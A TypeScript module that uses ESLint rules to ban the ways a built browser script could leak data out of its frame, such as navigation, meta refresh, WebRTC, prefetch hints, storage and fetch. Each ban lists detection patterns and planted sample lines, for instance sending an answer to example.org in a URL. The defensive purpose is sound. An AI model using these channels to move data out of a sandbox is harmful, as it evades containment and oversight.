import { Linter } from 'eslint';

/** What no built script may do, why, and the smallest line that does it. */
export interface Ban {
  why: string;
  /** Names that mean the browser's own thing where the script has no such name itself. */
  globals?: string[];
  /** Shapes of code, as esquery writes them. */
  shapes?: string[];
  planted: string[];
}

const away =
  'the frame could be sent elsewhere with an answer in the address, and no policy stops it';

export const bans: Ban[] = [
  {
    why: away,
    globals: ['navigation'],
    shapes: [
      // All that is done with `location` is to replace it, on leaving.
      "MemberExpression[property.name='location']:not(MemberExpression[property.name='replace'] > .object)",
      "Identifier[name='location']:not(MemberExpression > .property):not(MemberExpression[property.name='replace'] > .object):not(Property > .key)",
      "Literal[value='location']",
      "MemberExpression[property.name='navigation']",
      "CallExpression > MemberExpression[property.name=/^(assign|reload)$/]:not([object.name='Object'])",
      'Literal[value=/^javascript:/i]',
    ],
    planted: [
      'location.href = "https://example.org/?" + answer',
      'window.location = address',
      'location = address',
      'self.location.assign(address)',
      'window["location"] = address',
      'navigation.navigate(address)',
      'link.href = "javascript:go()"',
    ],
  },
  {
    why: 'a meta element sends a page elsewhere, and no policy stops it',
    shapes: [
      'Literal[value=/^(refresh|http-?equiv)$/i]',
      'TemplateElement[value.raw=/refresh|http-?equiv/i]',
      // Only a policy of one's own may be said so, and a policy can but narrow what there is.
      "MemberExpression[property.name='httpEquiv']:not(AssignmentExpression[right.value='Content-Security-Policy'] > .left, AssignmentExpression[right.quasis.0.value.raw='Content-Security-Policy'] > .left)",
      "Property[key.name='httpEquiv']",
    ],
    planted: ['meta.httpEquiv = kind', 'make("meta", { httpEquiv: kind })', 'set("http-equiv")'],
  },
  {
    why: 'the name of a window outlives its page, and no policy stops it',
    globals: ['name'],
    shapes: [
      "MemberExpression[property.name='name'][object.name=/^(window|self|top|parent|globalThis|frames)$/]",
    ],
    planted: ['name = answer', 'window.name = answer', 'self.name = answer'],
  },
  {
    why: 'a call between browsers asks a server, and no policy stops it',
    globals: ['RTCPeerConnection', 'webkitRTCPeerConnection', 'WebTransport'],
    shapes: [
      'MemberExpression[property.name=/RTC|WebTransport/]',
      'Literal[value=/^(stun|turns?):/]',
    ],
    planted: ['new RTCPeerConnection(server)', 'new window.webkitRTCPeerConnection(server)'],
  },
  {
    why: 'getting ready to ask a server already tells it something, and no policy stops it',
    shapes: [
      'Literal[value=/preconnect|prefetch|prerender|speculation/i]',
      'TemplateElement[value.raw=/preconnect|prefetch|prerender|speculation/i]',
    ],
    planted: [
      'link.rel = "preconnect"',
      'link.rel = `dns-prefetch`',
      'script.type = "speculationrules"',
    ],
  },
  {
    why: 'nothing is kept or sent',
    globals: [
      ...['localStorage', 'sessionStorage', 'indexedDB', 'caches', 'cookieStore', 'history'],
      ...['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'Worker', 'SharedWorker'],
      ...['BroadcastChannel', 'Image', 'FontFace', 'importScripts', 'eval', 'Function'],
    ],
    shapes: [
      'MemberExpression[property.name=/^(cookie|localStorage|sessionStorage|indexedDB|sendBeacon|serviceWorker|pushState|replaceState)$/]',
      'ImportExpression',
    ],
    planted: [
      'fetch(address)',
      'navigator.sendBeacon(a, b)',
      'new Image()',
      'eval(text)',
      'import(a)',
    ],
  },
];

/** What a script does that a ban names: each with the code it stands in. */
export function banned(script: string, { globals = [], shapes = [], why }: Ban): string[] {
  const rules: Linter.RulesRecord = {
    'no-restricted-globals': ['error', ...globals],
    'no-restricted-syntax': ['error', ...shapes],
  };
  const languageOptions = { sourceType: 'script' as const, ecmaVersion: 2024 as const };
  const lines = script.split('\n');
  return new Linter()
    .verify(script, [{ languageOptions, rules }], { allowInlineConfig: false })
    .map(({ message, line, column, fatal }) => {
      const near = lines[line - 1]?.slice(Math.max(0, column - 30), column + 60);
      return fatal ? message : `${why}: ${near}`;
    });
}
